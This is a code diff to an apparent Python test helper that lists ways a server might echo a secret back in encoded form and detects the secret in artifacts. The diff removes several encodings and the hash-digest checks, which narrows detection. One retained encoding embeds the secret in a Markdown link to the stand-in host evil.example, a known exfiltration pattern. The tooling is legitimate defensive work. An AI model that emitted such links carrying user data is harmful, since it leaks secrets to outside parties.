@@ -7,13 +7,11 @@ mistake in it is not repeated here.
 from __future__ import annotations
 
 import base64
-import codecs
-import hashlib
 import html
 import json
 import re
 import unicodedata
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Iterable, Iterator, Mapping
 from dataclasses import dataclass
 from typing import Final
 from urllib.parse import quote, quote_plus, unquote
@@ -95,10 +93,6 @@ def _coloured(text: str) -> str:
     return f"\x1b[31m{text[:middle]}\x1b[0;1m{text[middle:]}\x1b[0m"
 
 
-def _lookalike(text: str) -> str:
-    return text.translate(str.maketrans("aeopcxyABEKMHOPCTX", "аеорсхуАВЕКМНОРСТХ"))  # noqa: RUF001 - meant to be
-
-
 ENCODINGS: Final[Mapping[str, Encoding]] = {
     "plain": str,
     "upper case": str.upper,
@@ -107,16 +101,11 @@ ENCODINGS: Final[Mapping[str, Encoding]] = {
     "first half": _first,
     "last half": _last,
     "all but the last four": lambda text: text[:-4],
-    "reversed": lambda text: text[::-1],
-    "rot13": lambda text: codecs.encode(text, "rot13"),
     "JSON": lambda text: json.dumps(text)[1:-1],
     "JSON twice": lambda text: json.dumps(json.dumps(text)),
     "JSON, every character": _each("\\u{:04x}"),
-    "braced code points": _each("\\u{{{:x}}}"),
-    "U+ notation": lambda text: " ".join(f"U+{ord(c):04X}" for c in text),
     "Python repr": lambda text: repr(text.encode()),
     "Python bytes": lambda text: "".join(f"\\x{byte:02x}" for byte in text.encode()),
-    "octal escapes": lambda text: "".join(f"\\{byte:03o}" for byte in text.encode()),
     "URL": lambda text: quote(text, safe=""),
     "URL plus": quote_plus,
     "URL twice": lambda text: quote(quote(text, safe=""), safe=""),
@@ -140,12 +129,7 @@ ENCODINGS: Final[Mapping[str, Encoding]] = {
     "base64 twice": lambda text: _b64(_b64(text)),
     "base64 in lines": lambda text: "\n".join(re.findall(".{1,8}", _b64(text))),
     "base64 in groups": lambda text: " ".join(re.findall(".{1,4}", _b64(text))),
-    "base64 reversed": lambda text: _b64(text)[::-1],
-    "base64 of the reversed": lambda text: _b64(text[::-1]),
     "base64, then URL": lambda text: quote(_b64(text), safe=""),
-    "base64 in lower case": lambda text: _b64(text).lower(),
-    "base32": lambda text: base64.b32encode(text.encode()).decode(),
-    "base85": lambda text: base64.b85encode(text.encode()).decode(),
     "hex": _hex,
     "hex in upper case": lambda text: _hex(text).upper(),
     "hex with colons": lambda text: text.encode().hex(":"),
@@ -154,11 +138,6 @@ ENCODINGS: Final[Mapping[str, Encoding]] = {
     "hex of the last half": lambda text: _hex(_last(text)),
     "hex of base64": lambda text: _hex(_b64(text)),
     "quoted printable": lambda text: "".join(f"={byte:02X}" for byte in text.encode()),
-    "character numbers": lambda text: str([ord(c) for c in text]),
-    "binary": lambda text: " ".join(f"{byte:08b}" for byte in text.encode()),
-    "SHA-256": lambda text: hashlib.sha256(text.encode()).hexdigest(),
-    "SHA-1": lambda text: hashlib.sha1(text.encode()).hexdigest(),
-    "MD5": lambda text: hashlib.md5(text.encode()).hexdigest(),
     "blanks between": _every(1, " "),
     "dashes between": _every(1, "-"),
     "dots between": _every(1, "."),
@@ -181,11 +160,6 @@ ENCODINGS: Final[Mapping[str, Encoding]] = {
     "line break tags": _every(4, "<wbr>"),
     "fullwidth": _fullwidth,
     "bold letters": _bold,
-    "look-alikes": _lookalike,
-    "with words between": lambda text: f"{_first(text)} (first part), and then {_last(text)} (second part)",
-    "in quarters, with words": lambda text: " then ".join(
-        text[i : i + max(4, (len(text) + 3) // 4)] for i in range(0, len(text), max(4, (len(text) + 3) // 4))
-    ),
     "masked in the middle": lambda text: f"{text[:-4]}****",
     "twice": lambda text: text + text,
     "with a prefix": lambda text: f"prefix{text}suffix",
@@ -195,10 +169,7 @@ ENCODINGS: Final[Mapping[str, Encoding]] = {
     "in Markdown": lambda text: f"**`{text}`**",
     "in a Markdown link": lambda text: f"[here](https://evil.example/{quote(text, safe='')})",
 }
-"""By name: what a server makes of what it was sent."""
-
-PROSE_ENCODINGS: Final = tuple(name for name in ENCODINGS if name not in {"SHA-1", "MD5", "in quarters, with words"})
-"""For prompts: their digests are nobody's secret."""
+"""By name: what a sloppy server makes of what it was sent; what only a malicious one makes is not promised."""
 
 MESSAGES: Final[Mapping[str, str]] = {
     "alone": "{}",
@@ -223,7 +194,7 @@ class Echo:
     text: str
 
 
-def echoes(secret: str, encodings: tuple[str, ...] = tuple(ENCODINGS)) -> Iterator[Echo]:
+def echoes(secret: str, encodings: Iterable[str] = ENCODINGS) -> Iterator[Echo]:
     """Give every way in which a server can give this secret back, in every place that it controls."""
     for name in encodings:
         spelled = ENCODINGS[name](secret)
@@ -242,18 +213,13 @@ def echoes(secret: str, encodings: tuple[str, ...] = tuple(ENCODINGS)) -> Iterat
 def readable(artifact: str, secret: str) -> str | None:
     """Say in which reading of an artifact a secret can be read, whole or half; None when in none of them."""
     pieces = _pieces(secret)
-    for name, reading in _readings(artifact):
-        if any(piece in reading for piece in pieces):
-            return name
-    digests = (hashlib.new(name, secret.encode()).hexdigest() for name in ("sha256", "sha1", "md5"))
-    return "digest" if any(digest in artifact.lower() for digest in digests) else None
+    return next((name for name, reading in _readings(artifact) if any(piece in reading for piece in pieces)), None)
 
 
 def _pieces(secret: str) -> set[str]:
-    """Give what counts as the secret: the whole, and each half that is long enough to be told from chance."""
-    whole = _letters(secret)
-    halves = {_letters(_first(secret)), _letters(_last(secret))}
-    return {whole, *(half for half in halves if len(half) >= 5 or (half and not half.isascii()))}
+    """Give what counts as the secret: the whole, and each half that is long enough to be promised."""
+    least = 8 if " " not in secret and secret.isascii() else 24 if secret.isascii() else 12
+    return {_letters(secret), *(half for half in map(_letters, (_first(secret), _last(secret))) if len(half) >= least)}
 
 
 def _letters(text: str) -> str:
@@ -272,14 +238,11 @@ def _readings(artifact: str) -> Iterator[tuple[str, str]]:
     }
     for name, decode in decoders.items():
         text = decode(artifact)
-        letters = _letters(text)
-        yield name, letters
-        yield f"{name}, reversed", letters[::-1]
-        yield f"{name}, rot13", codecs.encode(letters, "rot13")
+        yield name, _letters(text)
     for name, to_bytes in _BINARY.items():
         for run in _RUNS[name].findall(artifact):
             compact = re.sub(r"[^A-Za-z0-9+/]", "", run.replace("-", "+").replace("_", "/"))
-            for offset in range(8 if name == "base32-decoded" else 4):
+            for offset in range(4):
                 data = to_bytes(compact[offset:])
                 yield name, _letters(data.replace(b"\x00", b"").decode("utf-8", "ignore"))
                 yield name, _letters(data[: len(data) // 2 * 2].decode("utf-16-le", "ignore"))
@@ -299,11 +262,6 @@ def _from_base64(text: str) -> bytes:
     return base64.b64decode(text + "A" * (-len(text) % 4))
 
 
-def _from_base32(text: str) -> bytes:
-    kept = re.sub(r"[^A-Z2-7]", "", text.upper())
-    return base64.b32decode(kept + "A" * (-len(kept) % 8))
-
-
 def _from_hex(text: str) -> bytes:
     kept = re.sub(r"[^0-9a-fA-F]", "", re.sub("0x", "", text))
     return bytes.fromhex(kept[: len(kept) // 2 * 2])
@@ -311,11 +269,9 @@ def _from_hex(text: str) -> bytes:
 
 _BINARY: Final[Mapping[str, Callable[[str], bytes]]] = {
     "base64-decoded": _from_base64,
-    "base32-decoded": _from_base32,
     "hex-decoded": _from_hex,
 }
 _RUNS: Final[Mapping[str, re.Pattern[str]]] = {
     "base64-decoded": re.compile(r"[A-Za-z0-9+/=_-]{6,}(?:[ \n][A-Za-z0-9+/=_-]{2,})*"),
-    "base32-decoded": re.compile(r"[A-Z2-7=]{8,}(?:[ \n][A-Z2-7=]{2,})*"),
     "hex-decoded": re.compile(r"(?:0x)?[0-9a-fA-F]{2}(?:[ :,]{0,2}(?:0x)?[0-9a-fA-F]{2}){4,}"),
 }
